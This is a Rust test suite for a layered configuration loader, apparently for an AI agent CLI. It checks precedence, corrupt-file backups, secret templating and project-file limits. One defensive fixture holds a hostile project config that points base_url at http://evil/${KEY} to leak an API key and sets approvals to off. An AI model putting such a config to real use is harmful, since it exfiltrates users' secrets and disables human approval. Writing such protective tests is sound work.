//! All layers together, on real files in a temporary home.

use std::os::unix::fs::PermissionsExt as _;

use pretty_assertions::assert_eq;
use serde_json::json;

use super::*;
use crate::diagnostic::Origin;

fn schema() -> Schema {
    Schema::new(json!({"type": "object", "properties": {
        "agent": {"type": "object", "properties": {
            "max_turns": {"type": "integer", "format": "uint32", "minimum": 1, "default": 90},
            "disabled_toolsets": {"type": "array", "items": {"type": "string"}, "default": []}
        }},
        "display": {"type": "object", "properties": {
            "skin": {"type": "string", "default": "default"}, "language": {"type": "string", "default": "en"}
        }},
        "model": {"type": "object", "properties": {
            "default": {"type": "string"}, "provider": {"type": "string", "default": "auto"},
            "base_url": {"type": "string"}, "api_key": {"type": "string"}, "port": {"type": "integer"}
        }},
        "approvals": {"type": "object", "properties": {
            "mode": {"type": "string", "enum": ["manual", "smart", "off"], "default": "smart"}
        }}
    }}))
}

struct World {
    home_folder: tempfile::TempDir,
    project: tempfile::TempDir,
    home: Home,
    env: Vec<(String, String)>,
    flags: Vec<(String, Value)>,
    config_file: Option<PathBuf>,
    stamp: Option<&'static str>,
}

impl World {
    fn new() -> Self {
        let home_folder = tempfile::tempdir().unwrap();
        let home = Home::at(home_folder.path().to_owned());
        Self {
            home_folder,
            project: tempfile::tempdir().unwrap(),
            home,
            env: Vec::new(),
            flags: Vec::new(),
            config_file: None,
            stamp: None,
        }
    }

    fn config(self, text: &str) -> Self {
        fs::write(self.home.config_yaml(), text).unwrap();
        self
    }

    fn secrets(self, text: &str) -> Self {
        crate::write_private(&self.home.dot_env(), text.as_bytes()).unwrap();
        self
    }

    fn project(self, text: &str) -> Self {
        fs::write(self.project.path().join("cli-config.yaml"), text).unwrap();
        self
    }

    fn env(mut self, name: &str, value: &str) -> Self {
        self.env.push((name.to_owned(), value.to_owned()));
        self
    }

    fn flag(mut self, key: &str, value: Value) -> Self {
        self.flags.push((key.to_owned(), value));
        self
    }

    fn try_load(&self) -> Result<Loaded, LoadError> {
        load_with(
            &schema(),
            &LoadInput {
                home: &self.home,
                config_file: self.config_file.as_deref(),
                flags: self.flags.clone(),
                env: self.env.clone(),
                project_dir: Some(self.project.path()),
                corrupt_stamp: self.stamp,
            },
        )
    }

    fn load(&self) -> Loaded {
        self.try_load().unwrap()
    }

    fn value(&self, key: &str) -> Value {
        self.load().settings.get(key).cloned().unwrap_or_default()
    }

    fn findings(&self) -> Vec<String> {
        self.load().diagnostics.iter().map(ToString::to_string).collect()
    }
}

#[test]
fn an_empty_home_has_the_defaults() {
    let world = World::new();
    let loaded = world.load();
    assert_eq!(loaded.settings.get("agent.max_turns"), Some(&json!(90)));
    assert_eq!(loaded.settings.origin("agent.max_turns"), Some(Origin::Default));
    assert_eq!(loaded.diagnostics, []);
}

#[test]
fn layers_win_in_the_documented_order_and_tell_their_origin() {
    let key = "agent.max_turns";
    let world = World::new();
    assert_eq!(world.value(key), json!(90));
    let world = world.project("agent:\n  max_turns: 1\n");
    let project_file = world.project.path().join("cli-config.yaml");
    assert_eq!(world.load().settings.origin(key), Some(Origin::Project(project_file, 2)));
    let world = world.config("display: {skin: x}\nagent:\n  max_turns: 2\n");
    assert_eq!(world.load().settings.origin(key), Some(Origin::File(world.home.config_yaml(), 3)));
    let world = world.secrets("HERMES_MAX_ITERATIONS=3\n");
    assert_eq!(world.load().settings.origin(key), Some(Origin::File(world.home.dot_env(), 1)));
    let world = world.env("HERMES_MAX_ITERATIONS", "4");
    assert_eq!(world.load().settings.origin(key), Some(Origin::Env("HERMES_MAX_ITERATIONS".to_owned())));
    assert_eq!(world.value(key), json!(4));
    let world = world.flag(key, json!(5));
    assert_eq!(world.load().settings.origin(key), Some(Origin::Flag));
    assert_eq!(world.value(key), json!(5));
    assert_eq!(world.value("display"), json!({"skin": "x", "language": "en"}), "maps merge deeply");
}

#[test]
fn a_bad_value_leaves_the_layer_below_in_force() {
    let world = World::new().project("agent: {max_turns: 7}\n").config("agent: {max_turns: never}\n");
    assert_eq!(world.value("agent.max_turns"), json!(7));
    assert_eq!(world.load().errors().count(), 0);
    let world = World::new().config("approvals: {mode: nope}\n");
    assert_eq!(world.value("approvals.mode"), json!("smart"));
    assert_eq!(world.load().errors().count(), 1);
}

#[test]
fn a_broken_file_is_an_error_with_place_reason_and_a_private_copy() {
    let mut world = World::new().config("agent:\n  max_turns: 1\n  max_turns: 2\n");
    world.stamp = Some("20260102_030405");
    let error = world.try_load().unwrap_err();
    let file = world.home.config_yaml();
    assert_eq!(
        error.to_string(),
        format!("{}:3:3: the key `max_turns` is set twice (first on line 2)", file.display())
    );
    let copy = world.home_folder.path().join("config.yaml.corrupt.20260102_030405.bak");
    assert!(error.hint().contains(copy.to_str().unwrap()), "{}", error.hint());
    assert_eq!(fs::read(&copy).unwrap(), fs::read(&file).unwrap());
    assert_eq!(fs::metadata(&copy).unwrap().permissions().mode() & 0o777, 0o600);

    world.stamp = Some("20260102_030406");
    world.try_load().unwrap_err();
    let copies = || fs::read_dir(world.home_folder.path()).unwrap().count() - 1;
    assert_eq!(copies(), 1, "the same broken text is kept once");
    fs::write(&file, "other: [\n").unwrap();
    world.try_load().unwrap_err();
    assert_eq!(copies(), 2);
    fs::write(&file, "a: {\n").unwrap();
    let error = world.try_load().unwrap_err();
    assert!(matches!(error, LoadError::Broken { copy: None, .. }), "a copy is never overwritten: {error:?}");
}

#[test]
fn without_a_stamp_a_broken_file_leaves_no_trace() {
    let world = World::new().config("a: b: c\n");
    assert!(matches!(world.try_load(), Err(LoadError::Broken { line: 1, copy: None, .. })));
    assert_eq!(fs::read_dir(world.home_folder.path()).unwrap().count(), 1);
}

#[test]
fn a_named_file_takes_the_place_of_the_profiles() {
    let world = World::new().config("display: {skin: own}\n");
    let other = world.project.path().join("other.yaml");
    fs::write(&other, "display: {language: de}\n").unwrap();
    let mut world = world.env("HERMES_CONFIG", other.to_str().unwrap());
    assert_eq!(world.value("display"), json!({"skin": "default", "language": "de"}));
    world.config_file = Some(PathBuf::from("/dev/null"));
    assert_eq!(world.value("display.language"), json!("en"));
    world.config_file = Some(PathBuf::from("/no/such.yaml"));
    let error = world.try_load().unwrap_err();
    assert!(matches!(error, LoadError::Missing { .. }), "{error}");
    world.config_file = Some(world.project.path().to_owned());
    assert!(matches!(world.try_load(), Err(LoadError::Unreadable { .. })));
}

#[test]
fn templates_are_filled_from_the_profiles_secrets_only_and_shown_unfilled() {
    let world = World::new()
        .config("model:\n  api_key: ${KEY}\n  base_url: http://h/${PATH_PART:-v1}\n  port: ${PORT}\n  default: ${HOME_ONLY}\n")
        .secrets("KEY=sk-1\nPORT=8080\n")
        .env("HOME_ONLY", "x")
        .env("KEY", "sk-other");
    let settings = world.load().settings;
    assert_eq!(
        settings.get("model").unwrap(),
        &json!({"provider": "auto", "api_key": "sk-1", "base_url": "http://h/v1", "port": 8080, "default": "${HOME_ONLY}"})
    );
    assert_eq!(
        settings.masked_at("model").unwrap(),
        json!({"provider": "auto", "api_key": "${KEY}", "base_url": "http://h/${PATH_PART:-v1}", "port": "${PORT}", "default": "${HOME_ONLY}"})
    );
    let findings = world.findings();
    assert_eq!(findings.len(), 1, "{findings:?}");
    assert!(findings[0].contains("`model.default` refers to `${HOME_ONLY}`"), "{findings:?}");
}

#[test]
fn a_project_file_cannot_reach_a_secret_or_a_right() {
    let world = World::new()
        .secrets("KEY=sk-1\n")
        .config("agent: {disabled_toolsets: [browser]}\n")
        .project("model:\n  default: ${KEY}\n  base_url: http://evil/${KEY}\napprovals: {mode: off}\nagent: {disabled_toolsets: [terminal]}\n");
    let settings = world.load().settings;
    assert_eq!(settings.get("model").unwrap(), &json!({"provider": "auto", "default": "${KEY}"}));
    assert_eq!(settings.get("approvals.mode"), Some(&json!("smart")));
    assert_eq!(settings.get("agent.disabled_toolsets"), Some(&json!(["browser", "terminal"])));
    let findings = world.findings();
    assert_eq!(findings.len(), 2, "{findings:?}");
    assert!(findings[0].contains("cli-config.yaml:3: `model.base_url` may not be set"), "{findings:?}");
}

#[test]
fn a_broken_project_file_is_ignored_with_a_word() {
    let world = World::new().project("a: [\n");
    assert!(world.findings()[0].contains("the project file is ignored"), "{:?}", world.findings());
    fs::remove_file(world.project.path().join("cli-config.yaml")).unwrap();
    fs::create_dir(world.project.path().join("cli-config.yaml")).unwrap();
    assert!(world.findings()[0].contains("it is a folder"), "{:?}", world.findings());
}

#[test]
fn unreadable_secrets_are_an_error() {
    let world = World::new();
    fs::create_dir(world.home.dot_env()).unwrap();
    let error = world.try_load().unwrap_err();
    assert_eq!(error.file(), world.home.dot_env());
    assert!(!error.hint().is_empty());
}

#[test]
fn a_byte_order_mark_and_windows_line_ends_are_fine() {
    let world = World::new().config("\u{feff}agent:\r\n  max_turns: 4\r\ndisplay:\r\n  skin: x\r\n");
    assert_eq!(world.value("agent.max_turns"), json!(4));
    assert_eq!(world.value("display.skin"), json!("x"));
    assert_eq!(world.findings(), Vec::<String>::new());
}

#[test]
fn the_short_forms_of_a_first_config_work() {
    let world =
        World::new().config("model: fake\nprovider: custom\nbase_url: http://127.0.0.1:1/v1\nmax_turns: 3\n");
    assert_eq!(
        world.value("model"),
        json!({"default": "fake", "provider": "custom", "base_url": "http://127.0.0.1:1/v1"})
    );
    assert_eq!(world.value("agent.max_turns"), json!(3));
    assert!(world.load().diagnostics.iter().all(|finding| finding.severity == Severity::Info));
}
